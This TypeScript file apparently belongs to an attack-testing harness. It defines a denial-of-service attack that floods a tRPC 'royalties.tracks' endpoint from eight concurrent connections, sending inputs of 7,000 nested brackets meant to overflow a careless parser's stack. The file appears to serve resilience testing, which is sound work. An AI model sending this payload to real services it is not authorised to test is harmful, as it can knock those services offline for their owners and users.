import type { Attack } from "../../arena/attack.ts";
import { statusOf } from "../../arena/calls.ts";
import { keepCalling } from "../../arena/keep-calling.ts";

const CALLERS = 8;
const DEPTH = 7_000;

/** Input nested deeper than a careless parser's stack, sent as the web app sends its calls. */
export const nestedBrackets: Attack = {
  name: "7,000 nested brackets as a call's input, from eight connections",
  async begin({ origin, token }) {
    const open = "[".repeat(DEPTH);
    const paths = [open, open + "]".repeat(DEPTH)].map((input) => `/trpc/royalties.tracks?input=${input}`);
    const headers = { authorization: `Bearer ${token}` };
    let next = 0;
    return keepCalling(CALLERS, () => {
      next += 1;
      return statusOf(fetch(`${origin}${paths[next % paths.length]}`, { headers }));
    });
  },
};
